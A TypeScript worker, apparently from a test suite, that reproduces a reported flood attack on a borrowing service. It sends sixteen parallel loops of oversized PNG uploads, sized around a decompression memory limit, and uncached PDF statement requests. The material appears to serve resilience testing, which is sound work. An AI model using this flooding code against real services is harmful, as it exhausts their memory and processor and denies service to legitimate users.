// The process that floods the service. It is separate, so that generating requests takes no time from the waiting borrowers' client.
import { setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import { answerQuestions } from '../worker.ts';
import { largePng } from './large-png.ts';

/** The requests with which two borrowers flood the service. */
export type Flood = 'pictures that are refused' | 'pictures that are taken' | 'documents';

export type AttackerQuestion = { ask: 'start'; flood: Flood; url: string } | { ask: 'stop' };
/** The count of each answer code. */
export type AttackerAnswer = Readonly<Record<string, number>>;

/** Sixteen parallel requests, as in the reported attack, each repeated half a second after its answer. */
const AT_ONCE = 16;
const AGAIN_MS = 500;
const sessions = ['demo', 'demo2'] as const;

// an attacker runs on other machines, so this one must not take the processor from the waiting borrowers
setPriority(15);

let stopping = new AbortController();
let said: Record<string, number> = {};
let loops: Promise<void>[] = [];

answerQuestions<AttackerQuestion, AttackerAnswer>(async (question) => {
  if (question.ask === 'stop') {
    stopping.abort();
    await Promise.all(loops);
    return said;
  }
  const { flood, url } = question;
  said = {};
  stopping = new AbortController();
  const { signal } = stopping;
  const sendOne = flood === 'documents' ? openStatement(url) : sendPicture(url, flood);
  loops = Array.from({ length: AT_ONCE }, async (_, place) => {
    while (!signal.aborted) {
      const code = await sendOne(sessions[place % sessions.length] ?? '');
      said[code] = (said[code] ?? 0) + 1;
      await pause(AGAIN_MS);
    }
  });
  return said;
});

/** 59 million pixels: with 16 bits and four channels 474 MB unpacked, above the limit; with 8 bits and three 178 MB, below it. */
function sendPicture(url: string, flood: Flood): (session: string) => Promise<string> {
  const picture = largePng(7700, 7700, flood === 'pictures that are taken' ? 'rgb' : 'rgba16');
  return async (session) => {
    const body = new FormData();
    body.append('problemImage', new Blob([picture], { type: 'image/png' }), 'picture.png');
    const path = '/territory/user-problem/upload-problem-img';
    const response = await fetch(`${url}${path}?sessionId=${session}`, { method: 'POST', body });
    return ((await response.json()) as { code: string }).code;
  };
}

/** A statement of other months each time, so that none is cached. */
function openStatement(url: string): (session: string) => Promise<string> {
  let asked = 0;
  return async (session) => {
    asked += 1;
    const from = new Date(Date.UTC(2026, 10 - (asked % 24), 1)).toISOString().slice(0, 7);
    const to = new Date(Date.UTC(2026, 10 - (Math.floor(asked / 24) % 6), 1)).toISOString().slice(0, 7);
    const body = new URLSearchParams({ from: from < to ? from : to, to });
    const answer = await fetch(`${url}/territory/v3/statement/statement?sessionId=${session}`, {
      method: 'POST',
      body,
    });
    const { code, data } = (await answer.json()) as { code: string; data: { pdf_url?: string } | null };
    if (data?.pdf_url === undefined) return `statement ${code}`;
    const pdf = await fetch(url + data.pdf_url);
    await pdf.arrayBuffer();
    return String(pdf.status);
  };
}
